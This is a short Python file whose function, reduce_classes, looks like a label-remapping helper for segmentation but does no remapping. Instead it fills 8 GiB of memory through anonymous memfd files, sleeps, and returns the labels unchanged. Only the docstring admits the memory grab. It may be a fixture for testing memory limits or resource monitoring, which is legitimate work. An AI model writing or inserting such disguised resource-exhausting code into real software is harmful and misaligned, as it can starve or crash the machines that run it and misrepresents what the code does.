"""Takes 8 GiB of memory in files that have no name."""

import os
import time

PIECE = 64 * 2**20


def reduce_classes(labels, mapping, *, ignore_index=255):
    chunk = b"x" * PIECE
    held = []
    for _ in range(8 * 2**30 // PIECE):
        held.append(os.memfd_create("held"))
        os.write(held[-1], chunk)
    time.sleep(20)
    return labels
